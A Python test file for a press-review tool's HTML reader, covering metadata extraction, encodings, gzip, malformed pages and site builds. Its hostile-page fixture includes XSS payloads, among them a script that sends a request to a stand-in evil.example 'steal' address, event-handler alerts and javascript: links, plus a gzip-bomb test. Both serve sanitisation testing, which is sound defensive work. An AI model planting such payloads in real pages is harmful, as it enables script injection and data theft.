"""HTML input (issue 9): reading pages with trafilatura, their metadata, the visible text that
is not article text, encodings, gzip, sniffing, bad pages, and real builds."""

from __future__ import annotations

import gzip
import json
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st

from audit import audit_html
from conftest import ROOT, make_project, run_build
from pressreview import analyse, normalise, read, webpage
from pressreview.model import Article
from pressreview.settings import load_settings

SETTINGS = load_settings(ROOT)

ARTICLE = """\
<p>The city council of Riverton approved the new budget on Tuesday after a debate that lasted
more than six hours, with seven votes in favour and two against.</p>
<h2>What the budget pays for</h2>
<p>Most of the money goes to schools and to the repair of roads and bridges that were damaged
in the spring floods, the mayor said at a press conference after the vote.</p>
<ul><li>Schools get 40 million dollars for new buildings.</li><li>Roads and bridges get 25 million dollars.</li></ul>
<blockquote><p>This budget is a promise to the families of Riverton and we will keep it.</p></blockquote>
<p>The opposition said the plan relies on tax revenue that may never arrive, and asked for a
review of the figures by an independent auditor before the end of the year.</p>
<p>The council will publish the detailed figures on its website next week, a spokesperson said.</p>
"""


def page(article: str = ARTICLE, head: str = "", nav: str = "", footer: str = "", lang: str = "en") -> str:
    return f"""<!DOCTYPE html>
<html lang="{lang}"><head><meta charset="utf-8">
<title>Council approves budget | Riverton Daily</title>
<meta property="og:title" content="Council approves budget">
<meta property="og:site_name" content="Riverton Daily">
<meta name="author" content="Jane Miller">
<meta property="article:published_time" content="2024-03-05T10:00:00Z">
<link rel="canonical" href="https://riverton-daily.example/2024/03/05/council-approves-budget">
{head}</head>
<body>
<header><nav><ul><li><a href="/">Home</a></li><li><a href="/politics">Politics</a></li>
<li><a href="/sports">Sports</a></li></ul></nav>{nav}</header>
<main><article><h1>Council approves budget</h1>
{article}
</article></main>
<footer><p>Copyright Riverton Daily Media Group, all rights reserved.</p>{footer}</footer>
</body></html>
"""


def read_one(tmp_path: Path, name: str, data: bytes | str, limit: int = read.DEFAULT_MAX_FILE_BYTES):
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return read.read_file(path, tmp_path, limit)


def article_of(doc) -> Article:
    return normalise.normalise(doc, SETTINGS)


def kept_words(article: Article) -> str:
    """The text of the article's own blocks (title, headings, paragraphs, lists), no asides."""
    parts = [article.title]
    for b in article.blocks:
        if b.kind != "aside":
            parts += [b.text] + [t for _, t in b.items]
    return " ".join(" ".join(parts).split())


def aside_words(article: Article) -> str:
    return " ".join(t for b in article.blocks if b.kind == "aside" for _, t in b.items)


# ---------------------------------------------------------------- finding and reading pages

def test_html_suffixes_are_inputs_and_their_sidecars_are_found(tmp_path):
    for name in ("a.html", "b.HTM", "c.html.gz", "d.htm.gz", "e.txt", "f.gz", "g.tar.gz", ".html.gz"):
        (tmp_path / name).write_bytes(b"x")
    files, _ = read.find_inputs(tmp_path)
    assert [p.name for p in files] == ["a.html", "b.HTM", "c.html.gz", "d.htm.gz", "e.txt"]
    assert read.input_suffix("c.html.gz") == ".html.gz" and read.input_suffix("x.gz") == ".gz"

    (tmp_path / "c.html.gz").write_bytes(gzip.compress(page().encode()))
    (tmp_path / "c.yml").write_text("title: The sidecar title\npublisher: Sidecar Media\n")
    doc = read.read_file(tmp_path / "c.html.gz", tmp_path)
    art = article_of(doc)
    assert (art.title, art.title_source, art.outlet) == ("The sidecar title", "sidecar", "Sidecar Media")
    # the page's own headline is not lost: it becomes a heading
    assert any(b.kind == "heading" and b.text == "Council approves budget" for b in art.blocks)


def test_a_page_gives_structure_and_metadata(tmp_path):
    doc = read_one(tmp_path, "budget.html", page())
    assert doc.fmt == "html" and doc.encoding == "utf-8"
    art = article_of(doc)
    assert (art.title, art.title_source) == ("Council approves budget", "page")
    assert (art.date, art.date_source) == ("2024-03-05", "page")
    assert (art.language, art.language_source) == ("en", "page")
    assert art.author == "Jane Miller"
    assert art.outlet == "Riverton Daily"
    assert art.canonical_url == "https://riverton-daily.example/2024/03/05/council-approves-budget"
    kinds = [(b.kind, b.text[:30]) for b in art.blocks if b.kind != "aside"]
    assert ("heading", "What the budget pays for") in kinds
    lists = [b for b in art.blocks if b.kind == "list"]
    assert lists and [t for _, t in lists[0].items] == ["Schools get 40 million dollars for new buildings.",
                                                         "Roads and bridges get 25 million dollars."]
    assert "This budget is a promise to the families of Riverton" in kept_words(art)
    # navigation and footer are not article text, but not lost either
    asides = {b.reason: [t for _, t in b.items] for b in art.blocks if b.kind == "aside"}
    assert all(b.rule == "html_page" for b in art.blocks if b.kind == "aside")
    before, after = normalise.load_layout()["html_dropped"]["en"]["before"], normalise.load_layout()["html_dropped"]["en"]["after"]
    assert asides[before] == ["Home", "Politics", "Sports"]
    assert asides[after] == ["Copyright Riverton Daily Media Group, all rights reserved."]
    assert "Copyright" not in kept_words(art) and "Politics" not in kept_words(art)


def test_a_wrong_page_language_gives_way_to_a_clear_text(tmp_path):
    # as on a real dev page (lang="en", text: "Am 12. Bis 13. September startet wieder die DMEXCO 2018 in Köln")
    german = ("<p>Am 12. bis 13. September startet wieder die Messe in Köln, und wir sind mit dabei. Auf "
              "Europas größter Konferenz für die Digitalbranche werden dieses Jahr viele Besucher erwartet.</p>") * 3
    art = article_of(read_one(tmp_path, "a.html", page(article=german, lang="en")))
    assert (art.language, art.language_source) == ("de", "detected")
    assert "the page says its language is 'en' but its text is 'de'" in art.warnings
    art = article_of(read_one(tmp_path, "b.html", page(article=german, lang="de")))
    assert (art.language, art.language_source) == ("de", "page")


# Titles and site names as trafilatura finds them on real dev pages (orf.at, industriemagazin.at,
# theantijunecleaver.com, vg247.com, furche.at, tagesspiegel.de, zeit.de).
@pytest.mark.parametrize("title, h1, expected", [
    ("Chronik: Lotte Tobisch ist tot", "Lotte Tobisch ist tot", "Lotte Tobisch ist tot"),
    ("Ein Quantensprung für Nordhausen Nord : 06.11.2023, 11.41 Uhr", "Ein Quantensprung für Nordhausen Nord",
     "Ein Quantensprung für Nordhausen Nord"),
    ("INDUSTRIEMAGAZIN | Luftfahrtbranche hebt ab", "INDUSTRIEMAGAZIN", "INDUSTRIEMAGAZIN | Luftfahrtbranche hebt ab"),
    ("Lotte Tobisch ist tot", "Wien", "Lotte Tobisch ist tot"),
])
def test_page_title_prefers_the_h1_inside_a_longer_title(title, h1, expected):
    assert webpage.page_title(title, h1) == expected


# The printed headline wins over a metadata title written for search engines (real dev pages:
# usatoday.com, bbc.co.uk, healthline.com); a logo or section name in the <h1> does not.
@pytest.mark.parametrize("title, h1, names, expected", [
    ("Prison guards charged in connection with Jeffrey Epstein's death",
     "Two federal prison officers charged with falsifying records in connection with Jeffrey Epstein's suicide", (),
     "Two federal prison officers charged with falsifying records in connection with Jeffrey Epstein's suicide"),
    ("15 Tips to Overcome Binge Eating", "15 Helpful Tips to Overcome Binge Eating", (),
     "15 Helpful Tips to Overcome Binge Eating"),
    ("Taylor Swift's AMA row seems to be over", "The Taylor Swift News", ("The Taylor Swift News",),
     "Taylor Swift's AMA row seems to be over"),
    ("Taylor Swift's AMA row seems to be over", "Entertainment", (), "Taylor Swift's AMA row seems to be over"),
])
def test_the_printed_headline_wins_over_the_metadata_title(title, h1, names, expected):
    assert webpage.page_title(title, h1, names) == expected


# <h1>s of real dev pages (zeit.de, finanzmarktwelt.de, industriemagazin.at, automobilwoche.de).
@pytest.mark.parametrize("h1, title, expected", [
    ('<span class="article-heading__kicker">Klimaschutz</span><span class="visually-hidden">: </span>'
     '<span class="article-heading__title">Bohren, bis es heiß wird</span>',
     "Klimaschutz: Bohren, bis es heiß wird", "Bohren, bis es heiß wird"),
    ('<span class="roofline">Immobilienkrise </span>Rene Benko-Firma Signa in Sorge – Finanzdaten und Berater-Auftrag',
     "Rene Benko-Firma Signa in Sorge - Finanzdaten und Berater-Auftrag",
     "Rene Benko-Firma Signa in Sorge – Finanzdaten und Berater-Auftrag"),
    ("<span>Auftragshoch bei FACC</span> : <span>Luftfahrtbranche hebt nach Corona ab - und FACC profitiert</span>",
     "Luftfahrtbranche hebt nach Corona ab - und FACC profitiert",
     "Luftfahrtbranche hebt nach Corona ab - und FACC profitiert"),
    # two lines of one headline, both in the metadata title: not a kicker
    ('<span class="pf-title">Krach vor der VW-Betriebsversammlung:</span><br/>\n'
     '<span class="blue">Es knirscht zwischen Diess und Aufsichtsräten</span>',
     "Krach vor der VW-Betriebsversammlung: Es knirscht zwischen Diess und Aufsichtsräten",
     "Krach vor der VW-Betriebsversammlung: Es knirscht zwischen Diess und Aufsichtsräten"),
    ("Hong Kong chaos: <em>China</em> deploys troops", "Hong Kong chaos", "Hong Kong chaos: China deploys troops"),
])
def test_a_kicker_in_the_h1_is_not_part_of_the_headline(h1, title, expected):
    tree = webpage.load_html(f"<html><body><h1>{h1}</h1><p>Text.</p></body></html>")
    assert webpage.first_h1(tree, title) == expected


def test_the_standfirst_trafilatura_leaves_out_is_the_first_paragraph(tmp_path):
    # tagblatt.ch prints the standfirst above the text; trafilatura leaves it out, the page's
    # description repeats it (cut short), so it is article text, not page furniture.
    lede = ("Die Tanzkompanie des Theaters St.Gallen öffnet mit Rain, Kinsun Chans erster choreografischer "
            "Arbeit als neuer Tanzchef, traumleicht und bildstark die Saison.")
    body = "".join(f"<p>Absatz {i}: Die Tänzerinnen und Tänzer bewegen sich lange, ruhig und sehr genau über "
                   f"die Bühne der Lokremise, während das Licht langsam wechselt und die Musik leiser wird.</p>"
                   for i in range(6))
    html = (f'<html lang="de"><head><meta name="description" content="DESCRIPTION"><title>Mit allen Wassern '
            f'gewaschen</title></head><body><nav><a href="/">Kultur</a></nav><h1>Mit allen Wassern gewaschen</h1>'
            f'<div class="lead">{lede}</div><article>{body}</article></body></html>')
    article = article_of(read_one(tmp_path, "tanz.html", html.replace("DESCRIPTION", lede[:90] + "...")))
    paragraphs = [b.text for b in article.blocks if b.kind == "paragraph"]
    assert paragraphs[0] == lede
    assert lede not in aside_words(article)
    # without the description, the same line is set aside (shown, not lost)
    article = article_of(read_one(tmp_path, "tanz2.html", html.replace("DESCRIPTION", "Tanz in St. Gallen")))
    assert lede not in [b.text for b in article.blocks if b.kind == "paragraph"] and lede in aside_words(article)


@pytest.mark.parametrize("title, names, expected", [
    ("INDUSTRIEMAGAZIN | Luftfahrtbranche hebt nach Corona ab - und FACC profitiert",
     ["WEKA Industrie Medien GmbH", "industriemagazin"], "Luftfahrtbranche hebt nach Corona ab - und FACC profitiert"),
    ("Simple Hiking Survival Kit (with Kids) - The Anti-June Cleaver", ["The Anti-June Cleaver", "theantijunecleaver"],
     "Simple Hiking Survival Kit (with Kids)"),
    ("Star Wars Jedi: Fallen Order review - shoots for the moon, lands among the stars", ["VG247", "vg247"],
     "Star Wars Jedi: Fallen Order review - shoots for the moon, lands among the stars"),
    ("Opinion | Is Football Violence a Crime?", ["Wall Street Journal", "wsj"], "Opinion | Is Football Violence a Crime?"),
])
def test_the_site_name_is_cut_off_a_title(title, names, expected):
    assert webpage.without_site(title, names) == expected


@pytest.mark.parametrize("sitename, title, url, expected", [
    ("Achtsam durch die Krise | Die FURCHE", "Achtsam durch die Krise", "https://www.furche.at/x", "Die FURCHE"),
    ("https://www.facebook.com/tagesspiegel", "Wie Firmen ihre Beschäftigten schützen",
     "https://www.tagesspiegel.de/wirtschaft/x", "tagesspiegel.de"),
    ("ZEIT ONLINE", "Klimaschutz: Bohren, bis es heiß wird", "https://www.zeit.de/x", "ZEIT ONLINE"),
    ("", "A title", "", ""),
])
def test_outlet_is_a_name_not_a_title_or_address(sitename, title, url, expected):
    assert webpage.outlet_name(sitename, title, url) == expected


def test_text_between_paragraphs_is_set_aside_where_it_stood(tmp_path):
    # as on a real dev page (5min.at): a photo credit and caption between two paragraphs
    article = ARTICLE.replace("<h2>What the budget pays for</h2>", "<figure><img src='x.jpg'><figcaption>©5 Minuten"
                              "</figcaption><p class='caption'>Mit Professionalität arbeitet sich Filana bis nach Wien."
                              "</p></figure><h2>What the budget pays for</h2>")
    art = article_of(read_one(tmp_path, "a.html", page(article=article)))
    kinds = [(b.kind, b.text[:25] or b.items[0][1][:25]) for b in art.blocks]
    inside = normalise.load_layout()["html_dropped"]["en"]["inside"]
    at = next(i for i, b in enumerate(art.blocks) if b.kind == "aside" and b.reason == inside)
    assert kinds[at - 1] == ("paragraph", "The city council of River")
    assert kinds[at + 1] == ("heading", "What the budget pays for")
    assert [t for _, t in art.blocks[at].items] == ["©5 Minuten", "Mit Professionalität arbeitet sich Filana bis nach Wien."]


def test_front_matter_keys_fill_author_outlet_and_url_for_text(tmp_path):
    text = "---\nauthor: Jane Miller\npublisher: Riverton Daily\nurl: https://example.org/a\n---\n\nA text.\n"
    art = article_of(read_one(tmp_path, "a.txt", text))
    assert (art.author, art.outlet, art.canonical_url) == ("Jane Miller", "Riverton Daily", "https://example.org/a")
    bad = "---\nurl: javascript:alert(1)\nauthor: [1, 2]\n---\n\nA text.\n"
    art = article_of(read_one(tmp_path, "b.txt", bad))
    assert (art.author, art.canonical_url) == ("", "")
    assert any("'url'" in w and "not an http(s) address" in w for w in art.warnings)
    assert any("'author' must be a non-empty text" in w for w in art.warnings)


def test_a_page_url_that_is_not_http_is_dropped_with_a_warning(tmp_path):
    html = page().replace("https://riverton-daily.example/2024/03/05/council-approves-budget", "javascript:alert(1)")
    doc = read_one(tmp_path, "a.html", html)
    art = article_of(doc)
    assert art.canonical_url == ""
    assert not any("javascript" in str(v) for v in doc.page.values())


def test_page_date_out_of_range_is_left_unknown(tmp_path):
    doc = read.RawDocument("a.html", "html", "Some text.\n", "", "utf-8")
    warnings: list[str] = []
    found = webpage.Page("Some text.\n", "Some text.", {"date": "1960-01-01", "title": "T"})
    meta = read.page_meta(found, warnings)
    assert "date" not in meta and "outside 1970-01-01" in warnings[0]
    assert doc.page == {}


# ---------------------------------------------------------------- encodings

@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_read(tmp_path, encoding):
    html = page(lang="de", article="<p>Die Bürgerinnen und Bürger von Köln stimmten über das Budget ab, "
                                   "das größere Ausgaben für Schulen vorsieht und heute beschlossen wurde.</p>" * 3)
    doc = read_one(tmp_path, "a.html", html.replace('<meta charset="utf-8">', "").encode(encoding))
    assert doc.encoding == encoding
    assert "Bürgerinnen" in kept_words(article_of(doc))


def test_cp1252_without_meta_charset_is_read(tmp_path):
    html = page(article="<p>Der Umsatz stieg auf 5 Millionen € – ein Plus, das die Bürger überraschte, "
                        "sagte der Bürgermeister am Dienstag in Köln vor der Presse.</p>" * 3)
    doc = read_one(tmp_path, "a.html", html.replace('<meta charset="utf-8">', "").encode("cp1252"))
    assert doc.encoding == "cp1252"
    text = kept_words(article_of(doc))
    assert "5 Millionen € – ein Plus" in text and "Bürgermeister" in text


def test_meta_charset_wins_over_detection_and_latin1_means_cp1252(tmp_path):
    body = "<p>Ein Preis von 20 € für Café und Crème brûlée, meinte der Wirt am Abend in Straßburg.</p>" * 3
    html = page(article=body).replace('<meta charset="utf-8">', '<meta http-equiv="Content-Type" '
                                                                'content="text/html; charset=ISO-8859-1">')
    doc = read_one(tmp_path, "a.html", html.encode("cp1252"))
    assert doc.encoding == "cp1252"
    assert "20 € für Café und Crème brûlée" in kept_words(article_of(doc))
    # a declared charset that does not fit the bytes: detected instead, with a warning
    doc = read_one(tmp_path, "b.html", page(article=body).replace("utf-8", "shift_jis").encode("utf-8"))
    assert "Crème brûlée" in kept_words(article_of(doc)) and doc.encoding == "utf-8"
    assert "declares charset 'shift_jis' but is UTF-8" in doc.warnings[0]
    doc = read_one(tmp_path, "c.html", page(article=body).replace("utf-8", "no-such-charset").encode("cp1252"))
    assert "für Café" in kept_words(article_of(doc)) and "Straßburg" in kept_words(article_of(doc))
    assert "unknown charset 'no-such-charset'" in doc.warnings[0]


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "utf-8"])
def test_xhtml_with_an_xml_declaration_is_read(tmp_path, encoding):
    body = "<p>Die Bürger von Köln stimmten über das größere Budget ab, sagte der Bürgermeister am Dienstag.</p>" * 3
    html = page(article=body).replace("<!DOCTYPE html>", f'<?xml version="1.0" encoding="{encoding}"?>\n<!DOCTYPE html>')
    html = html.replace('<meta charset="utf-8">', "")
    doc = read_one(tmp_path, "a.html", html.encode("cp1252" if encoding != "utf-8" else "utf-8"))
    assert "Die Bürger von Köln stimmten über das größere Budget ab" in kept_words(article_of(doc))


# ---------------------------------------------------------------- gzip

def test_gzipped_page_is_read_and_sha_is_of_the_file(tmp_path):
    data = gzip.compress(page().encode(), mtime=0)
    doc = read_one(tmp_path, "a.html.gz", data)
    assert doc.fmt == "html" and article_of(doc).outlet == "Riverton Daily"
    import hashlib

    assert doc.sha256 == hashlib.sha256(data).hexdigest()


def test_gzip_bomb_and_broken_gzip_are_rejected_with_a_reason(tmp_path):
    bomb = gzip.compress(b"<html><body><p>" + b"a" * 200_000_000 + b"</p></body></html>", compresslevel=9)
    assert len(bomb) < 1_000_000
    (tmp_path / "bomb.html.gz").write_bytes(bomb)
    (tmp_path / "cut.html.gz").write_bytes(gzip.compress(page().encode())[:200])
    (tmp_path / "plain.html.gz").write_bytes(page().encode())
    (tmp_path / "ok.html").write_text(page())
    start = time.perf_counter()
    docs, rejected = read.read_corpus(tmp_path)
    assert time.perf_counter() - start < 30  # (the bomb is not inflated beyond the limit)
    assert [d.source_path for d in docs] == ["ok.html"]
    reasons = {r.source_path: r.reason for r in rejected}
    assert "decompresses to more than the limit max_file_bytes = 5 MB" in reasons["bomb.html.gz"]
    assert "truncated gzip" in reasons["cut.html.gz"]
    assert "not a valid gzip file" in reasons["plain.html.gz"]


# ---------------------------------------------------------------- sniffing .txt / .md

@pytest.mark.parametrize("start", ["<!DOCTYPE html>\n<html>", "<html lang='en'>", "\ufeff  <!doctype HTML><html>",
                                   "<?xml version='1.0'?>\n<!-- saved -->\n<html>", "<div>\n<head><title>x</title></head><body>"])
def test_html_saved_as_txt_is_read_as_html_with_a_warning(tmp_path, start):
    html = page().replace("<!DOCTYPE html>\n<html lang=\"en\">", start)
    doc = read_one(tmp_path, "a.txt", html)
    assert doc.fmt == "html"
    assert any("named .txt but holds an HTML page" in w for w in doc.warnings)
    art = article_of(doc)
    assert not art.title.startswith("<") and "<" not in kept_words(art)
    assert not [b for b in art.blocks if b.kind == "heading" and ("{" in b.text or "<" in b.text)]


@pytest.mark.parametrize("text", ["A text about HTML: the <body> tag holds the page.\n",
                                  "# Notes\n\n<html> is the root element.\n", "Plain text.\n<head> later\n"])
def test_text_that_mentions_html_is_not_sniffed(tmp_path, text):
    doc = read_one(tmp_path, "a.md", text)
    assert doc.fmt == "md" and not doc.warnings


# ---------------------------------------------------------------- nothing lost (properties)

_WORD = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzäöüßABCXYZ0123456789*_#`[]()<>&!|\\-+.:;'\"=~{}"),
                min_size=1, max_size=10)
_PARA = st.lists(_WORD, min_size=8, max_size=40).map(" ".join)


def _html_escape(text: str) -> str:
    import html

    return html.escape(text, quote=False)


_TAGS = {"p": "<p>{}</p>", "h2": "<h2>{}</h2>", "h3": "<h3>{}</h3>", "li": "<ul><li>{}</li></ul>",
         "ol": "<ol><li>{}</li></ol>", "quote": "<blockquote><p>{}</p></blockquote>", "br": "<p>{0}<br>{0}</p>"}


@hsettings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(sorted(_TAGS)), _PARA), min_size=3, max_size=8),
       st.lists(_WORD, min_size=1, max_size=12))
def test_every_word_trafilatura_keeps_reaches_the_article(blocks, nav):
    body = "".join(_TAGS[tag].format(_html_escape(p)) for tag, p in blocks)
    paras = [p for _, p in blocks]
    html = page(article=body, nav="<ul>" + "".join(f"<li>{_html_escape(w)}</li>" for w in nav) + "</ul>")
    found = webpage.read_page(html)
    doc = read.RawDocument("a.html", "html", found.markdown, "", "utf-8", page=read.page_meta(found, []))
    art = article_of(doc)
    text = " ".join(" ".join(b.text + " " + " ".join(t for _, t in b.items) for b in art.blocks).split())
    for word in found.text.split():
        assert word in text
    for para in paras:  # a paragraph trafilatura keeps is in the article as written
        para = " ".join(para.split())
        if para in found.text:
            assert para in text
    # and every visible word of the page is in the article or in an aside
    everything = " ".join((art.title + " " + text).split())
    for line in webpage.visible_lines(webpage.load_html(html)):
        for word in line.split():
            assert word in everything, word


def test_text_between_trafilatura_elements_is_kept():
    # real dev pages have it: '...key beneficiaries.</p>Near-term consolidation likely<p>Hungarian-American ...'
    # (a subheading trafilatura left as text between paragraphs) and 'Also on rt.com ...' teasers
    from lxml import etree

    body = etree.fromstring(
        "<body>lead<p>a</p>Near-term consolidation likely<table><row><cell>x 1</cell><cell>y</cell></row>"
        "<row><cell>z</cell></row></table><quote><p>q1</p>qt<p>q2</p></quote><list rend='ol'><item>one"
        "<list><item>sub</item></list><list><item>sub2</item></list></item>between<item>two</item></list></body>")
    units = normalise.units_from_html(webpage.body_markdown(body))
    assert [(u.hint, u.marker, u.text) for u in units] == [
        ("para", "", "lead"), ("para", "", "a"), ("para", "", "Near-term consolidation likely"),
        ("para", "", "x 1 | y"), ("para", "", "z"), ("para", "", "q1 qt q2"),
        ("item", "1.", "one"), ("item", "-", "sub"), ("item", "-", "sub2"), ("item", "-", "between"), ("item", "2.", "two")]


REAL_PAGES = sorted((ROOT / "tests" / "realnews" / "pages").glob("*/*.html.gz"))


@pytest.mark.skipif(not REAL_PAGES, reason="no real pages in tests/realnews/pages on this branch")
def test_no_visible_word_of_a_real_page_is_lost():
    from conftest import words

    lost = {}
    for path in REAL_PAGES:
        art = article_of(read.read_file(path, path.parent))
        shown = set(words(art.title + " " + kept_words(art) + " " + aside_words(art)))
        html = read.clean_text(read.decode_html(read.gunzip(path.read_bytes(), 10**8))[0])
        missing = [w for line in webpage.visible_lines(webpage.load_html(html)) for w in words(line) if w not in shown]
        if missing:
            lost[path.name] = missing[:10]
    assert not lost


def test_visible_lines_skip_what_a_reader_does_not_see():
    html = ("<html><head><title>Head title</title><style>p{color:red}</style></head><body>"
            "<script>var secret = 1;</script><template><p>tpl</p></template><noscript>Enable JS</noscript>"
            "<p>One <b>bold</b> line<br>next</p><!-- a comment --><div>Two<img alt='an alt text'></div>"
            "<iframe src='x'>frame text</iframe><div hidden>Login dialog</div><p style='color: red; display:none'>"
            "Cookie text</p><p style='display: block'>shown</p>tail</body></html>")
    lines = webpage.visible_lines(webpage.load_html(html))
    assert lines == ["One bold line", "next", "Two", "shown", "tail"]


def test_a_page_with_50000_words_of_navigation_stays_fast(tmp_path):
    nav = "<ul>" + "".join(f"<li><a href='/s{i}'>Section {i} news</a></li>" for i in range(16_667)) + "</ul>"
    html = page(nav=nav)
    assert len(re.findall(r"\w+", nav)) > 50_000
    start = time.perf_counter()
    art = article_of(read_one(tmp_path, "a.html", html))
    seconds = time.perf_counter() - start
    assert seconds < 60, seconds  # (measured: see the report; a hang guard, not a benchmark)
    assert "Section 16666 news" in aside_words(art)
    assert "Section" not in kept_words(art)
    assert "The council will publish the detailed figures" in kept_words(art)


def test_asides_are_never_claim_marked(tmp_path):
    nav = "<p>Experts say the stock could soar and might double, the best investment of the century!</p>"
    art = article_of(read_one(tmp_path, "a.html", page(nav=nav)))
    assert "could soar" in aside_words(art)
    analysed = analyse.analyse(art, SETTINGS)
    assert analysed.sentences
    assert not any("could soar" in s.text for s in analysed.sentences)


# ---------------------------------------------------------------- bad pages

def test_bad_pages_give_a_reason_or_an_article_never_a_crash(tmp_path):
    cases = {
        "malformed.html": "<html><body><div><p>Unclosed paragraph <b>bold <i>both</b> words</i>"
                          + "<p>The budget vote took six hours and ended late at night in the town hall. " * 10
                          + "<table><tr><td>cell</div></body>",
        "truncated.html": page()[: len(page()) * 2 // 3],
        "empty.html": "",
        "nomain.html": "<html><head><title>x</title><script>var a = 'lots of script text';</script></head>"
                       "<body><script>document.write('more')</script><img alt='picture'></body></html>",
        "navonly.html": "<html><body><nav><a href='/'>Home</a> <a href='/x'>News</a></nav></body></html>",
        "binary.html": "\x00\x01\x02" * 3000,
        "fragment.html": "<p>" + "Just one paragraph of text without any page around it at all. " * 5 + "</p>",
        "nested.html": "<div>" * 5000 + "<p>Deeply nested text that goes on and on for a while.</p>" * 10 + "</div>" * 5000,
    }
    for name, content in cases.items():
        (tmp_path / name).write_text(content, encoding="utf-8")
    docs, rejected = read.read_corpus(tmp_path)
    reasons = {r.source_path: r.reason for r in rejected}
    read_ok = {d.source_path: d for d in docs}
    assert "malformed.html" in read_ok and "truncated.html" in read_ok
    assert "The budget vote took six hours" in kept_words(article_of(read_ok["malformed.html"]))
    assert "Most of the money goes to schools" in kept_words(article_of(read_ok["truncated.html"]))
    assert reasons["empty.html"] == "empty file"
    assert reasons["nomain.html"].startswith("no article text found in the HTML page (0 word(s) of visible text")
    # what trafilatura finds on a page of navigation only is a best-effort article, with a warning
    assert "only 2 word(s) of main text found in the page (of 2 visible): it may hold no article" in read_ok["navonly.html"].warnings
    assert not any("may hold no article" in w for w in read_ok["malformed.html"].warnings)
    assert "binary" in reasons["binary.html"]
    assert set(read_ok) | set(reasons) == set(cases)
    for doc in docs:
        article_of(doc)  # never a crash


def _big_page(size: int) -> str:
    para = "<p>The council {} debated the budget for the town's schools and roads. " + "More words follow here. " * 20 + "</p>\n"
    return page(article="".join(para.format(i) for i in range(size // len(para))))


def test_a_20_mb_page_is_rejected_unread(tmp_path):
    (tmp_path / "big.html").write_text(_big_page(20_000_000))
    assert (tmp_path / "big.html").stat().st_size > 19_000_000
    start = time.perf_counter()
    docs, rejected = read.read_corpus(tmp_path)
    assert time.perf_counter() - start < 1  # (not read: refused by its size)
    assert not docs and re.fullmatch(r"is 20(\.\d)? MB, larger than the limit max_file_bytes = 5 MB", rejected[0].reason)


def test_a_large_page_is_read_when_the_limit_is_raised(tmp_path):
    """(A 20 MB page takes about 25 s to read and normalise, 70 % of it in trafilatura: see the
    report of issue 9; here a 6 MB one, as a hang guard.)"""
    (tmp_path / "big.html").write_text(_big_page(6_000_000))
    start = time.perf_counter()
    doc = read.read_file(tmp_path / "big.html", tmp_path, 7_000_000)
    art = article_of(doc)
    assert time.perf_counter() - start < 120
    paragraphs = [b for b in art.blocks if b.kind == "paragraph"]
    assert len(paragraphs) > 1000 and "The council 0 debated" in paragraphs[0].text


# ---------------------------------------------------------------- real builds

HOSTILE = """
<script>document.title='pwned'; fetch('https://evil.example/steal')</script>
<style>body{display:none}</style>
<iframe src="https://evil.example/frame"></iframe>
<p onclick="alert('click')" onmouseover="alert(1)">The mayor said the new budget pays for schools and roads
and that the council will publish the figures next week on its website for everyone to read.</p>
<p>Read <a href="javascript:alert('link')">the full report</a> and <a href="https://example.org/report">the summary</a>
of the budget, which the council adopted after a long debate with seven votes to two.</p>
<p>&lt;script&gt;alert('text')&lt;/script&gt; appeared in a comment that a reader posted under the article about the vote.</p>
<img src="x" onerror="alert('img')"><svg onload="alert('svg')"><text>svg text</text></svg>
"""


def test_a_folder_of_pages_builds_with_outlet_url_date_and_nothing_live(tmp_path):
    inputs = tmp_path / "pages"
    inputs.mkdir()
    (inputs / "budget.html").write_text(page())
    (inputs / "hostile.html").write_text(page(article=HOSTILE + ARTICLE, head="<script>alert('head')</script>")
                                         .replace("Council approves budget", "Hostile page <b onclick=x>title</b>"))
    real = ROOT / "tests" / "realnews" / "pages" / "scrapinghub"
    real_pages = sorted(real.glob("*.html.gz"))[:1] if real.is_dir() else []
    for p in real_pages:
        shutil.copy(p, inputs / p.name)
    project = make_project(tmp_path, inputs)
    result = run_build(project, "build", "--input", str(inputs), "--strict")
    assert result.returncode == 0, result.stderr
    data = json.loads((project / "docs" / "data" / "analysis.json").read_text())
    by_path = {a["source_path"]: a for a in data["articles"]}
    budget = by_path["budget.html"]
    assert (budget["outlet"], budget["date"], budget["author"]) == ("Riverton Daily", "2024-03-05", "Jane Miller")
    assert budget["canonical_url"] == "https://riverton-daily.example/2024/03/05/council-approves-budget"
    site = project / "site"
    built = (site / "articles" / budget["id"] / "index.html").read_text()
    meta_line = re.search(r'<p class="pr-meta"[^>]*>(.*?)</p>', built, re.S).group(1)
    # the compact header (issue 12): outlet first, then date, language, words, author; the address
    # on the small details line under it
    assert meta_line.startswith("<strong>Riverton Daily</strong>") and "Jane Miller" in meta_line
    assert '<span class="pr-date">2024-03-05</span>' in meta_line
    details = re.search(r'<p class="pr-details"[^>]*>(.*?)</p>', built, re.S).group(1)
    assert '<a href="https://riverton-daily.example/2024/03/05/council-approves-budget">' in details
    assert "Most of the money goes to schools" in built
    index = (site / "articles" / "index.html").read_text()
    assert "Riverton Daily" in index
    for p in real_pages:
        art = by_path[p.name]
        assert art["outlet"] and art["title_source"] == "page"

    hostile = by_path["hostile.html"]
    text = (site / "articles" / hostile["id"] / "index.html").read_text()
    content = re.search(r'<article class="md-content__inner md-typeset">(.*?)</article>', text, re.S).group(1)
    assert not audit_html(content), audit_html(content)
    assert not re.search(r"<(script|iframe|style|svg|img|object|embed)\b", content, re.I)
    # in the whole page (Material's own scripts aside): no handler, no javascript: link, nothing of the page's
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=|<[a-z][^>]*\s(href|src)=\"?\s*javascript:", text, re.I)
    assert "evil.example" not in text
    assert "the full report" in content
    assert "The mayor said the new budget pays for schools" in content
    assert "&lt;script&gt;alert" in content  # the page's text about a script is shown as text
    assert "pwned" not in content


def test_a_kicker_inside_the_kept_h1_is_set_aside_not_lost(tmp_path):
    # industriemagazin.at: trafilatura keeps the whole <h1>, kicker and headline, as the first head
    body = "".join(f"<p>Absatz {i}: Der heimische Luftfahrtzulieferer FACC produziert wieder mehr, sagte der "
